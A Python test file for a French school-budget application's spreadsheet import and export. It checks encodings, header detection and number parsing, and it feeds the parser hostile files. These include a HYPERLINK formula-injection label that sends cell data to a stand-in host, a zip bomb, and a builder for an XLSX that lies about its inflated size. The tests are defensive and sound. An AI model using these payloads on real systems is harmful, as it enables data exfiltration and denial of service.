"""Budget lines from and to spreadsheets: files written by the libraries themselves and by hand
(a CSV as a French Excel saves it), round trips in the three formats, hostile files."""

from __future__ import annotations

import zipfile
from decimal import Decimal

import pytest
from export_worded import raises_worded
from openpyxl import Workbook, load_workbook

from socle_desktop.catalogue.errors import error_text
from socle_desktop.domain.compute import compute
from socle_desktop.domain.line_table import LineTableError, read_lines
from socle_desktop.domain.model import VOLET_LABELS, Ecole
from socle_desktop.export.demo import demo_dossier
from socle_desktop.export.spreadsheet import SpreadsheetError, budget_rows, read_table, write_table
from socle_desktop.resources import load_rules

RULES = load_rules()  # the categories and VAT rates are the rules file's

TILLEULS = Ecole(id="e1", nom="École élémentaire Les Tilleuls", uai="0439901D", nb_classes=4, nb_eleves=90)
MOULIN = Ecole(id="e2", nom="École du Moulin", uai="0750654D", nb_classes=2, nb_eleves=40)


def lines_of(path, **options):
    return read_lines(read_table(path, options.pop("sheet", None)), ecoles=[TILLEULS, MOULIN],
                      taux_tva=RULES.taux_tva, categories=RULES.categories, **options)


def comparable(lignes):
    return [(line.volet, line.categorie, line.ecole, line.libelle, line.quantite, line.prix_unitaire_ht_centimes,
             line.taux_tva) for line in lignes]


def test_a_csv_saved_by_a_french_excel(tmp_path):
    """cp1252, « ; », decimal comma, thousands with a space and U+00A0, « € », a quoted label on two
    lines, a letterhead above the header, an empty row, and one bad row among good ones."""
    text = (
        "Devis n° 2021-0142;;;;\r\n"
        "Numéri'Fournitures SARL;;;;\r\n"
        ";;;;\r\n"
        "Désignation;Qté;PU HT;TVA;École\r\n"
        "Vidéoprojecteur focale courte;4;1 250,00 €;20 %;École élémentaire Les Tilleuls\r\n"
        "\"Ordinateur portable\r\nenseignant\";2;1\u00a0020,50;20;0750654D\r\n"
        ";;;;\r\n"
        "Câble HDMI;3;12,5;5,5;École du Moulin\r\n"
        "Tablette;deux;300;20;École du Moulin\r\n"
    )
    path = tmp_path / "devis.csv"
    path.write_bytes(text.encode("cp1252"))
    table = lines_of(path)
    assert table.header_row == 4
    assert comparable(line for _row, line in table.lines) == [
        ("equipement", "autre", "e1", "Vidéoprojecteur focale courte", 4, 125000, "20"),
        ("equipement", "autre", "e2", "Ordinateur portable enseignant", 2, 102050, "20"),
        ("equipement", "autre", "e2", "Câble HDMI", 3, 1250, "5.5"),
    ]
    ((row, reason),) = [(r.row, error_text(r.reason)) for r in table.refused]
    assert row == 9 and "quantité « deux »" in reason  # Excel's row 9: the two-line label is one row


def test_an_optional_column_under_a_usual_header_is_not_left_out(tmp_path):
    """An optional column whose header is not recognised is silently not read: « Taux TVA (%) »
    left every line at 20 %, « N° UAI » left the rows without their school."""
    path = tmp_path / "devis.csv"
    path.write_text("Désignation;Qté;Prix unit. HT;Taux TVA (%);N° UAI\nManuels;3;12,00;5,5;0439901D\n",
                    encoding="utf-8")
    assert comparable(line for _row, line in lines_of(path).lines) == [
        ("equipement", "autre", "e1", "Manuels", 3, 1200, "5.5")]


def test_a_letterhead_with_commas_does_not_choose_the_separator(tmp_path):
    """csv.Sniffer took the commas of a quote's letterhead for the separator: the « ; » table under
    it became one column, and no header was found."""
    path = tmp_path / "devis.csv"
    path.write_text("NUMERI EXEMPLE, 12 rue des Écoles, 43000 Le Puy-en-Velay, SIRET 123, TVA FR12\n"
                    "Devis 2021-0142, valable 3 mois, conditions générales au verso, merci\n"
                    "Objet : équipement, écoles, commune\n\nDésignation;Qté;PU HT;UAI\nCâble;2;10,50;0439901D\n",
                    encoding="utf-8")
    table = lines_of(path)
    assert table.header_row == 5 and [line.prix_unitaire_ht_centimes for _row, line in table.lines] == [1050]


def test_utf8_with_bom_and_comma_separated(tmp_path):
    path = tmp_path / "plan.csv"
    path.write_bytes("\ufeffLibellé,Quantité,Prix unitaire HT,TVA,UAI\nENT annuel,1,1500.00,20,0439901D\n".encode())
    table = lines_of(path, volet="ressources")
    assert comparable(line for _row, line in table.lines) == [
        ("ressources", "autre", "e1", "ENT annuel", 1, 150000, "20")]


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-be"])
def test_a_unicode_csv_of_libreoffice_or_excel_is_read(tmp_path, encoding):
    """A CSV saved as « Unicode » (UTF-16 with its byte-order mark, tab-separated as Excel's
    « Texte Unicode »): it was read as Windows-1252, every other byte a NUL, and refused as
    « aucune ligne d'en-tête reconnue » under headers that were there."""
    path = tmp_path / "plan.csv"
    text = "Libellé\tQuantité\tPrix unitaire HT\tTVA\tUAI\r\nENT annuel\t1\t1500,00\t20\t0439901D\r\n"
    path.write_bytes(("\ufeff" + text).encode(encoding))
    table = lines_of(path, volet="ressources")
    assert comparable(line for _row, line in table.lines) == [
        ("ressources", "autre", "e1", "ENT annuel", 1, 150000, "20")]


def test_xlsx_numbers_percentages_and_cached_formula_values(tmp_path):
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["Désignation", "Qté", "PU HT", "TVA", "Montant TTC", "UAI"])
    sheet.append(["Visualiseur", 2, 89.9, 0.2, None, "0439901D"])
    sheet.append(["Formule", "=1+1", 10, 0.2, None, "0439901D"])  # no cached value: refused, not evaluated
    path = tmp_path / "plan.xlsx"
    workbook.save(path)
    table = lines_of(path)
    assert comparable(line for _row, line in table.lines) == [
        ("equipement", "autre", "e1", "Visualiseur", 2, 8990, "20")]
    assert [(r.row, error_text(r.reason)) for r in table.refused] == [
        (3, "quantité : formule « =1+1 » sans valeur calculée (fichier écrit par un programme) ; ouvrez-le dans "
            "Excel ou LibreOffice, enregistrez-le, puis importez-le")]  # it said « quantité vide »


def test_formulas_without_values_are_named_in_the_sheet_read_only(tmp_path):
    """A program's workbook: formulas without a computed value, on the sheet read and on another;
    Excel's relative part names; a shared formula (no text of its own); an uncomputed TTC is only
    a check the line does without."""
    workbook = Workbook()
    notes = workbook.active
    notes.title = "Notes"
    notes.append(["Désignation", "Qté", "PU HT", "UAI"])
    notes.append(["Pas lue", "=3*3", 10, "0439901D"])
    devis = workbook.create_sheet("Devis")
    devis.append(["Désignation", "Qté", "PU HT", "Montant TTC", "UAI"])
    devis.append(["Câble", 2, 10, "=B2*C2*1.2", "0439901D"])
    devis.append(["Souris", 1, "=C2*2", None, "0439901D"])
    devis.append(["Clavier", 1, 15, None, "0439901D"])
    workbook.save(tmp_path / "programme.xlsx")
    path = tmp_path / "excel.xlsx"
    with zipfile.ZipFile(tmp_path / "programme.xlsx") as source, zipfile.ZipFile(path, "w") as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/_rels/workbook.xml.rels":
                data = data.replace(b'Target="/xl/', b'Target="')  # as Excel writes them
            if item.filename == "xl/worksheets/sheet2.xml":  # Clavier's price: a shared formula's child
                data = data.replace(b'<c r="C4" t="n"><v>15</v></c>', b'<c r="C4"><f t="shared" si="0"/></c>')
            target.writestr(item, data)
    table = lines_of(path, sheet="Devis")
    assert [line.libelle for _row, line in table.lines] == ["Câble"]
    assert [(r.row, error_text(r.reason).split(" sans valeur")[0]) for r in table.refused] == [
        (3, "prix unitaire HT : formule « =C2*2 »"), (4, "prix unitaire HT : formule")]
    assert [(r.row, error_text(r.reason)) for r in lines_of(path, sheet="Notes").refused] == [
        (2, "quantité : formule « =3*3 » sans valeur calculée (fichier écrit par un programme) ; ouvrez-le dans "
            "Excel ou LibreOffice, enregistrez-le, puis importez-le")]


def test_a_formulas_binary_noise_is_not_a_third_decimal(tmp_path):
    """Excel writes a formula's cached value with every binary digit: =100*1,1 is 110.00000000000001
    in the file and « 110,00 € » on screen; 2,2*3 is 6.6000000000000005. The spreadsheet computes and
    shows 15 significant digits, and so does the import (a supplier's quote priced « catalogue ×
    remise » was refused row by row: « plus de deux décimales »)."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["Désignation", "Qté", "PU HT", "TVA", "Montant TTC", "UAI"])
    sheet.append(["Écran", 3, 111.25, 0.2, 396, "0439901D"])
    sheet.append(["Câble", 2.25, 6.25, 0.2, None, "0439901D"])
    sheet.append(["Prix au millième", 1, 10.005, 0.2, None, "0439901D"])  # a real third decimal stays refused
    workbook.save(tmp_path / "openpyxl.xlsx")  # openpyxl writes 16 digits: the values as Excel writes them
    excel = {b"<v>111.25</v>": b"<v>110.00000000000001</v>", b"<v>396</v>": b"<v>396.00000000000006</v>",
             b"<v>2.25</v>": b"<v>2.0000000000000004</v>", b"<v>6.25</v>": b"<v>6.6000000000000005</v>"}
    path = tmp_path / "remise.xlsx"
    with zipfile.ZipFile(tmp_path / "openpyxl.xlsx") as source, zipfile.ZipFile(path, "w") as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                for openpyxl_value, excel_value in excel.items():
                    assert openpyxl_value in data
                    data = data.replace(openpyxl_value, excel_value)
            target.writestr(item, data)
    table = lines_of(path)
    assert comparable(line for _row, line in table.lines) == [
        ("equipement", "autre", "e1", "Écran", 3, 11000, "20"),
        ("equipement", "autre", "e1", "Câble", 2, 660, "20")]
    assert [(r.row, error_text(r.reason)) for r in table.refused] == [
        (4, "prix unitaire HT 10,005 : plus de deux décimales")]


def test_numbers_no_line_can_hold_are_refused_row_by_row_in_french(tmp_path):
    """« inf » or « NaN » read as Decimals, and a quantity of « inf » stopped the whole import with
    « erreur inattendue (OverflowError) »; a workbook's 1E+30 price with « InvalidOperation »."""
    path = tmp_path / "bizarre.csv"
    path.write_text("Désignation;Qté;PU HT;UAI;Montant TTC\nA;inf;10;0439901D;\nB;NaN;10;0439901D;\n"
                    "C;1;10;0439901D;-Infinity\nD;1;10;0439901D;\n", encoding="utf-8")
    table = lines_of(path)
    assert [line.libelle for _row, line in table.lines] == ["D"]
    assert [(r.row, error_text(r.reason)) for r in table.refused] == [
        (2, "quantité « inf » n'est pas un nombre"), (3, "quantité « NaN » n'est pas un nombre"),
        (4, "montant TTC : « -Infinity » n'est pas un montant en euros (exemple : 1 234,56).")]

    workbook = Workbook()
    workbook.active.append(["Désignation", "Qté", "PU HT", "TVA", "UAI"])
    workbook.active.append(["Trop cher", 1, 1e30, 0.2, "0439901D"])
    workbook.active.append(["Demi", 2.5, 10, 0.2, "0439901D"])
    workbook.active.append(["Taux d'avant 2014", 1, 10, 0.196, "0439901D"])
    workbook.save(tmp_path / "bizarre.xlsx")
    table = lines_of(tmp_path / "bizarre.xlsx")
    assert [(r.row, error_text(r.reason)) for r in table.refused] == [
        (2, "prix unitaire HT de plus d'un milliard d'euros"), (3, "quantité « 2,5 » non entière"),
        (4, "taux de TVA 19,6 % : un de 20 %, 10 %, 5,5 %, 2,1 %, 0 % est attendu")]


def test_a_stated_ttc_that_does_not_match_is_refused(tmp_path):
    path = tmp_path / "devis.csv"
    path.write_text("Désignation;Qté;PU HT;TVA;Montant TTC\nA;2;100,00;20;240,00\nB;2;100,00;20;250,00\n",
                    encoding="utf-8")
    table = lines_of(path, ecole=TILLEULS)
    assert [line.libelle for _row, line in table.lines] == ["A"]
    assert "différent du calcul" in error_text(table.refused[0].reason)


def test_unknown_schools_are_listed(tmp_path):
    path = tmp_path / "devis.csv"
    path.write_text("Désignation;Qté;PU HT;UAI\nA;1;10;0999999Z\n", encoding="utf-8")
    table = lines_of(path)
    assert table.unknown_schools == ["0999999Z"] and not table.lines


def test_unknown_schools_say_their_rows_and_can_be_sent_to_a_known_school(tmp_path):
    path = tmp_path / "devis.csv"
    path.write_text("Désignation;Qté;PU HT;UAI;École\nA;1;10;0999999Z;École des Pins\nB;1;10;;Le Moulin\n"
                    "C;1;10;0999999Z;\n", encoding="utf-8")
    table = lines_of(path)
    assert [(u.key, u.uai, u.nom, u.rows) for u in table.unknown_details] == [
        ("0999999Z", "0999999Z", "École des Pins", [2, 4]), ("Le Moulin", "", "Le Moulin", [3])]
    mapped = lines_of(path, aliases={"0999999Z": "e2", "Le Moulin": "e1"})
    assert [(line.libelle, line.ecole) for _row, line in mapped.lines] == [("A", "e2"), ("B", "e1"), ("C", "e2")]
    assert mapped.refused == [] and mapped.unknown_details == []


def test_an_equipment_row_without_a_school_is_refused_as_when_typed(tmp_path):
    path = tmp_path / "devis.csv"
    path.write_text("Désignation;Qté;PU HT;UAI\nA;1;10;\nB;1;10;0439901D\n", encoding="utf-8")
    table = lines_of(path)
    assert [(r.row, error_text(r.reason).split(" :")[0]) for r in table.refused] == [
        (2, "ligne d'équipement sans école")]
    assert [line.ecole for _row, line in lines_of(path, ecole=MOULIN).lines] == ["e2", "e1"]
    assert [line.ecole for _row, line in lines_of(path, volet="ressources").lines] == [None, "e1"]


def test_a_label_the_dossier_could_not_hold_is_refused_before_the_save(tmp_path):
    path = tmp_path / "devis.csv"
    path.write_text(f"Désignation;Qté;PU HT;UAI\n{'x' * 301};1;10;0439901D\n{'y' * 300};1;10;0439901D\n",
                    encoding="utf-8")
    table = lines_of(path)
    assert [r.row for r in table.refused] == [2] and len(table.lines) == 1


def test_no_recognisable_header_is_one_french_error(tmp_path):
    path = tmp_path / "x.csv"
    path.write_text("a;b;c\n1;2;3\n", encoding="utf-8")
    with pytest.raises(LineTableError) as refused:
        lines_of(path)
    assert refused.value.code == "line_table_no_header"
    assert error_text(refused.value).startswith("aucune ligne d'en-tête reconnue dans les 20 premières lignes : "
                                                "il faut au moins les colonnes « Désignation » (ou « Libellé »)")


@pytest.mark.parametrize("suffix", [".csv", ".xlsx", ".ods"])
def test_round_trip(tmp_path, suffix):
    dossier = demo_dossier()
    calcul = compute(dossier, load_rules()).to_dict()
    path = tmp_path / f"budget{suffix}"
    write_table(path, budget_rows(dossier, calcul, RULES.categories, VOLET_LABELS), VOLET_LABELS)
    imported = []
    sheets = [None] if suffix == ".csv" else list(VOLET_LABELS.values())
    for sheet in sheets:
        rows = read_table(path, sheet)
        imported += [line for _row, line in read_lines(rows, ecoles=dossier.ecoles, taux_tva=RULES.taux_tva,
                                                       categories=RULES.categories).lines]
    assert comparable(imported) == comparable(dossier.lignes)


@pytest.mark.parametrize("suffix", [".xlsx", ".ods", ".csv"])
def test_a_label_that_looks_like_a_formula_is_exported_as_text(tmp_path, suffix):
    """openpyxl takes any text beginning with « = » for a formula: a label « =2+3 » came out of the
    XLSX as a formula (LibreOffice showed 5, a hostile label could call HYPERLINK or WEBSERVICE) and
    came back from it as an empty label, refused. In the CSV, the spreadsheet itself decides: such a
    text is written after an apostrophe, and the import takes it off."""
    dossier = demo_dossier()
    dossier.lignes[0].libelle = "=2+3"
    dossier.lignes[1].libelle = '=HYPERLINK("https://exemple.invalid/?"&A1;"Voir")'
    dossier.ecoles[0].nom = "=1+1"
    dossier.lignes[2].libelle, dossier.lignes[3].libelle = "- Câble HDMI", "@Lot 3"
    calcul = compute(dossier, load_rules()).to_dict()
    path = tmp_path / f"budget{suffix}"
    write_table(path, budget_rows(dossier, calcul, RULES.categories, VOLET_LABELS), VOLET_LABELS)
    if suffix == ".csv":  # LibreOffice 7.4 opened « =2+3 » as a formula (5); Excel also starts one at + - @
        text = path.read_bytes().decode("utf-8-sig")
        assert ";'=2+3;" in text and ";'=1+1;" in text and ";'- Câble HDMI;" in text and ";'@Lot 3;" in text
    if suffix == ".xlsx":
        sheet = load_workbook(path)["Équipement"]
        assert [(cell.value, cell.data_type) for cell in (sheet["E2"], sheet["E3"], sheet["B2"])] == [
            ("=2+3", "s"), ('=HYPERLINK("https://exemple.invalid/?"&A1;"Voir")', "s"), ("=1+1", "s")]
    rows = read_table(path, None if suffix == ".csv" else "Équipement")
    lines = [line for _row, line in read_lines(rows, ecoles=dossier.ecoles, taux_tva=RULES.taux_tva,
                                               categories=RULES.categories).lines]
    assert comparable(lines) == comparable(line for line in dossier.lignes
                                           if suffix == ".csv" or line.volet == "equipement")


def test_the_xlsx_export_has_real_numbers_formats_and_frozen_headers(tmp_path):
    dossier = demo_dossier()
    calcul = compute(dossier, load_rules()).to_dict()
    path = tmp_path / "budget.xlsx"
    write_table(path, budget_rows(dossier, calcul, RULES.categories, VOLET_LABELS), VOLET_LABELS)
    workbook = load_workbook(path)
    assert workbook.sheetnames == [*VOLET_LABELS.values(), "Financement"]
    sheet = workbook["Équipement"]
    assert sheet.freeze_panes == "A2"
    assert isinstance(sheet["G2"].value, int | float) and "€" in sheet["G2"].number_format
    total = workbook["Financement"]
    assert total.cell(row=total.max_row, column=5).value == pytest.approx(calcul["total"]["subvention_centimes"] / 100)
    assert Decimal(str(total.cell(row=total.max_row, column=5).value)) * 100 == calcul["total"]["subvention_centimes"]


def test_the_ods_export_has_euro_formats_frozen_bold_headers_and_widths(tmp_path):
    """What the XLSX has, in the form LibreOffice reads (checked by opening the file in LibreOffice
    through UNO: hasFrozenPanes, the cells' number format « # ##0,00 € », bold headers, widths).
    The ODS had plain numbers in « Standard » format, no frozen row, one width for every column."""
    import xml.etree.ElementTree as ET

    ns = {"office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
          "table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
          "style": "urn:oasis:names:tc:opendocument:xmlns:style:1.0",
          "number": "urn:oasis:names:tc:opendocument:xmlns:datastyle:1.0",
          "fo": "urn:oasis:names:tc:opendocument:xmlns:xsl-fo-compatible:1.0",
          "config": "urn:oasis:names:tc:opendocument:xmlns:config:1.0"}

    def attribute(element, name):
        prefix, local = name.split(":")
        return element.get(f"{{{ns[prefix]}}}{local}")

    dossier = demo_dossier()
    calcul = compute(dossier, load_rules()).to_dict()
    path = tmp_path / "budget.ods"
    write_table(path, budget_rows(dossier, calcul, RULES.categories, VOLET_LABELS), VOLET_LABELS)
    with zipfile.ZipFile(path) as archive:
        content, settings = ET.fromstring(archive.read("content.xml")), ET.fromstring(archive.read("settings.xml"))
    styles = {attribute(style, "style:name"): style for style in content.iter(f"{{{ns['style']}}}style")}
    currency_formats = {attribute(style, "style:name"): style
                        for style in content.iter(f"{{{ns['number']}}}currency-style")}
    sheets = content.findall(".//table:table", ns)
    assert [attribute(sheet, "table:name") for sheet in sheets] == [*VOLET_LABELS.values(), "Financement"]
    for sheet in sheets:
        header, first = sheet.findall("table:table-row", ns)[:2]
        bold = styles[attribute(header.find("table:table-cell", ns), "table:style-name")]
        assert attribute(bold.find("style:text-properties", ns), "fo:font-weight") == "bold"
        money = first.findall("table:table-cell", ns)[6 if attribute(sheet, "table:name") != "Financement" else 1]
        assert attribute(money, "office:value-type") == "currency" and attribute(money, "office:currency") == "EUR"
        data_style = currency_formats[attribute(styles[attribute(money, "table:style-name")], "style:data-style-name")]
        assert data_style.find("number:currency-symbol", ns).text == "€"
        assert attribute(data_style.find("number:number", ns), "number:decimal-places") == "2"
    widths = {attribute(styles[attribute(column, "table:style-name")].find("style:table-column-properties", ns),
                        "style:column-width") for column in sheets[0].findall("table:table-column", ns)}
    assert len(widths) > 3  # each column its own width, as in the XLSX
    frozen = {}
    tables = ".//config:config-item-map-named[@config:name='Tables']/config:config-item-map-entry"
    for entry in settings.iterfind(tables, ns):
        items = {attribute(item, "config:name"): item.text for item in entry.findall("config:config-item", ns)}
        frozen[attribute(entry, "config:name")] = (items["VerticalSplitMode"], items["VerticalSplitPosition"])
    assert frozen == {attribute(sheet, "table:name"): ("2", "1") for sheet in sheets}
    assert comparable(line for sheet in VOLET_LABELS.values() for _row, line in
                      read_lines(read_table(path, sheet), ecoles=dossier.ecoles, taux_tva=RULES.taux_tva,
                                 categories=RULES.categories).lines) == comparable(dossier.lignes)


def test_a_zip_bomb_disguised_as_xlsx_is_refused(tmp_path):
    path = tmp_path / "bombe.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"\0" * (300 * 1024 * 1024))
    with raises_worded(SpreadsheetError, "démesuré"):
        read_table(path)


def test_a_million_columns_are_cut_to_the_bound_without_hanging(tmp_path):
    path = tmp_path / "large.csv"
    path.write_text("Désignation;Qté;PU HT" + ";x" * 1_000_000 + "\n", encoding="utf-8")
    with raises_worded(SpreadsheetError, "colonnes"):
        read_table(path)


def xlsx_lying_about_its_sheet(path, declared_size: int, megabytes: int, crc_of_the_declared_part: bool) -> None:
    """An .xlsx written by openpyxl whose sheet is replaced by `megabytes` MB of rows (a few hundred KB
    deflated), while the zip's directory declares `declared_size` bytes (and, if asked, the CRC of
    the first `declared_size` bytes, so that zipfile itself finds nothing wrong)."""
    import struct
    import zlib

    workbook = Workbook()
    workbook.active.append(["Désignation", "Qté", "PU HT"])
    workbook.active.append(["Câble", 2, 10])
    workbook.save(path.with_suffix(".base.xlsx"))
    head = (b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            b'<sheetData>')
    row = b'<row><c t="inlineStr"><is><t>aaaaaaaa</t></is></c></row>'
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    deflated, crc = [packer.compress(head)], zlib.crc32(head)
    block = row * (1024 * 1024 // len(row))
    for _ in range(megabytes):
        deflated.append(packer.compress(block))
        crc = zlib.crc32(block, crc)
    deflated.append(packer.flush())
    if crc_of_the_declared_part:
        crc = zlib.crc32((head + block)[:declared_size])
    out, directory = bytearray(), bytearray()
    with zipfile.ZipFile(path.with_suffix(".base.xlsx")) as source:
        for item in source.infolist():
            if item.filename == "xl/worksheets/sheet1.xml":
                data, size, checksum = b"".join(deflated), declared_size, crc
            else:
                plain = source.read(item.filename)
                packer_part = zlib.compressobj(9, zlib.DEFLATED, -15)
                data, size, checksum = packer_part.compress(plain) + packer_part.flush(), len(plain), zlib.crc32(plain)
            encoded, offset = item.filename.encode(), len(out)
            out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, checksum, len(data), size,
                               len(encoded), 0) + encoded + data
            directory += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, checksum, len(data),
                                     size, len(encoded), 0, 0, 0, 0, 0, offset) + encoded
    count = len(source.infolist())
    path.write_bytes(bytes(out) + bytes(directory) + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count,
                                                                 len(directory), len(out), 0))


@pytest.mark.parametrize("crc_of_the_declared_part", [False, True])
def test_a_part_that_inflates_past_its_declared_size_is_refused_in_bounded_memory(tmp_path, crc_of_the_declared_part):
    """Sizes in a zip are what its maker wrote: a sheet declared as 1 KB that inflates to 200 MB was
    inflated whole into memory by zipfile before it failed on the CRC, and the command line said
    « erreur inattendue (BadZipFile) » (with a CRC of the declared kilobyte, calamine refused it
    as « illisible (XmlError) »)."""
    import tracemalloc

    path = tmp_path / "menteur.xlsx"
    xlsx_lying_about_its_sheet(path, 1000, 200, crc_of_the_declared_part)
    assert path.stat().st_size < 2 * 1024 * 1024
    tracemalloc.start()
    try:
        with raises_worded(SpreadsheetError, "démesuré"):
            read_table(path)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 32 * 1024 * 1024


def test_a_file_over_50_mb_is_refused_before_reading(tmp_path):
    path = tmp_path / "gros.csv"
    with path.open("wb") as handle:
        handle.truncate(51 * 1024 * 1024)
    with raises_worded(SpreadsheetError, "trop gros"):
        read_table(path)


@pytest.mark.parametrize("content", [b"", b"PK\x03\x04garbage", b"\x00" * 100])
def test_garbage_xlsx_or_ods_is_one_french_error(tmp_path, content):
    for suffix in (".xlsx", ".ods"):
        path = tmp_path / f"x{suffix}"
        path.write_bytes(content)
        with pytest.raises(SpreadsheetError):
            read_table(path)


# --- calamine's dense grid: a tiny file naming a far cell must not reach it ---------------------------

FAR_READER = """
import sys
from socle_desktop.catalogue.errors import error_text
from socle_desktop.export.spreadsheet import SpreadsheetError, read_table
try:
    rows = read_table(sys.argv[1])
except SpreadsheetError as error:
    print("refus:", error_text(error))
else:
    print("lu:", len(rows), max(len(r) for r in rows))
"""


def read_in_a_child(path) -> str:
    """read_table in a child process with 2 GB of address space: if a guard failed, calamine would
    abort the child (not this test run) on its first huge allocation."""
    import resource
    import subprocess
    import sys

    def limit():
        resource.setrlimit(resource.RLIMIT_AS, (2 * 1024**3, 2 * 1024**3))

    done = subprocess.run([sys.executable, "-c", FAR_READER, str(path)], capture_output=True, text=True,
                          timeout=120, preexec_fn=limit)
    assert done.returncode == 0, done.stderr[-2000:]
    return done.stdout.strip()


def test_an_xlsx_naming_its_last_cell_is_refused_without_allocating_the_grid(tmp_path):
    workbook = Workbook()
    workbook.active["A1"] = "Désignation"
    workbook.active["XFD1048576"] = "loin"  # 4 KB on disk; a dense grid of 17 billion cells
    workbook.save(tmp_path / "loin.xlsx")
    assert read_in_a_child(tmp_path / "loin.xlsx") == "refus: plus de 20\u202f000 lignes : découpez le fichier."


def test_a_too_wide_xlsx_is_refused_as_a_too_wide_csv_is(tmp_path):
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["Désignation", "Qté", "PU HT", "UAI"])
    sheet.append(["Câble", 2, 10, "0439901D"])
    sheet.cell(row=2, column=16384, value="note tout à droite")
    workbook.save(tmp_path / "large.xlsx")
    assert read_in_a_child(tmp_path / "large.xlsx") == (
        "refus: une feuille va jusqu'à la colonne XFD : 100 colonnes au plus. Gardez seulement le tableau des lignes.")


def test_a_row_of_a_million_cells_without_references_is_refused_in_seconds(tmp_path):
    """2.5 MB on disk; openpyxl took 100 s to read it (under load), the bounds' scan counts it first."""
    import time

    workbook = Workbook()
    workbook.active["A1"] = "Désignation"
    workbook.save(tmp_path / "base.xlsx")
    cells = b"".join(b'<c t="inlineStr"><is><t>x%d</t></is></c>' % i for i in range(1_000_001))
    with zipfile.ZipFile(tmp_path / "base.xlsx") as source, \
            zipfile.ZipFile(tmp_path / "ligne.xlsx", "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b"</sheetData>", b"<row>" + cells + b"</row></sheetData>")
            target.writestr(item, data)
    started = time.perf_counter()
    with raises_worded(SpreadsheetError, "plus d'un million de cellules"):
        read_table(tmp_path / "ligne.xlsx")
    assert time.perf_counter() - started < 20


def ods_with(rows_xml: str) -> bytes:
    import io

    content = ('<?xml version="1.0" encoding="UTF-8"?><office:document-content '
               'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
               'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
               'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">'
               '<office:body><office:spreadsheet><table:table table:name="Feuille1">'
               '<table:table-column table:number-columns-repeated="1024"/>'
               f'{rows_xml}</table:table></office:spreadsheet></office:body></office:document-content>')
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("content.xml", content)
        archive.writestr("META-INF/manifest.xml", '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest '
                         'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
                         '<manifest:file-entry manifest:full-path="/" manifest:media-type='
                         '"application/vnd.oasis.opendocument.spreadsheet"/></manifest:manifest>')
    return buffer.getvalue()


def cell(text: str, repeat: int = 1) -> str:
    return (f'<table:table-cell office:value-type="string" table:number-columns-repeated="{repeat}">'
            f'<text:p>{text}</text:p></table:table-cell>')


HEADER_ODS = ("<table:table-row>" + cell("Désignation") + cell("Qté") + cell("PU HT") + cell("UAI")
              + "</table:table-row>")
ROW_ODS = ('<table:table-row>' + cell("Câble") + '<table:table-cell office:value-type="float" office:value="2">'
           '<text:p>2</text:p></table:table-cell><table:table-cell office:value-type="currency" '
           'office:value="10.5"><text:p>10,50 €</text:p></table:table-cell>' + cell("0439901D") + '</table:table-row>')


def test_an_ods_as_libreoffice_pads_it_is_read(tmp_path):
    """LibreOffice ends a sheet with a million repeated empty rows and styled empty cells."""
    padding = ('<table:table-row table:number-rows-repeated="1048570"><table:table-cell '
               'table:number-columns-repeated="1024"/></table:table-row>')
    path = tmp_path / "libreoffice.ods"
    path.write_bytes(ods_with(HEADER_ODS + ROW_ODS + '<table:table-row><table:table-cell table:style-name="ce1" '
                              'table:number-columns-repeated="16380"/></table:table-row>' + padding))
    assert read_in_a_child(path) == "lu: 2 4"
    assert [(line.libelle, line.quantite, line.prix_unitaire_ht_centimes)
            for _row, line in lines_of(path).lines] == [("Câble", 2, 1050)]


@pytest.mark.parametrize("far", [
    '<table:table-row table:number-rows-repeated="1048000"><table:table-cell/></table:table-row>'
    '<table:table-row>' + cell("loin") + '</table:table-row>',
    '<table:table-row table:number-rows-repeated="5000">' + cell("répété", 10_000) + '</table:table-row>',
    '<table:table-row><table:table-cell table:number-columns-repeated="16000"/>' + cell("loin") + '</table:table-row>',
])
def test_an_ods_whose_cells_reach_far_is_refused_before_calamine_sees_it(tmp_path, far):
    path = tmp_path / "loin.ods"
    path.write_bytes(ods_with(HEADER_ODS + far))
    assert read_in_a_child(path).startswith(("refus: plus de ", "refus: une feuille va jusqu'à la colonne "))


def test_row_numbers_are_the_spreadsheets_even_when_the_table_starts_at_c3(tmp_path):
    workbook = Workbook()
    sheet = workbook.active
    for offset, values in enumerate([["Désignation", "Qté", "PU HT", "UAI"], ["Câble", "deux", 10, "0439901D"]]):
        for column, value in enumerate(values, start=3):
            sheet.cell(row=3 + offset, column=column, value=value)
    workbook.save(tmp_path / "decale.xlsx")
    table = lines_of(tmp_path / "decale.xlsx")
    assert table.header_row == 3 and [r.row for r in table.refused] == [4]


def test_the_sheet_names_come_with_the_rows_and_a_sheet_can_be_chosen(tmp_path):
    from socle_desktop.export.spreadsheet import read_sheets

    workbook = Workbook()
    workbook.active.title = "Devis"
    workbook.active.append(["Désignation"])
    workbook.create_sheet("Options").append(["Housse"])
    workbook.save(tmp_path / "deux.xlsx")
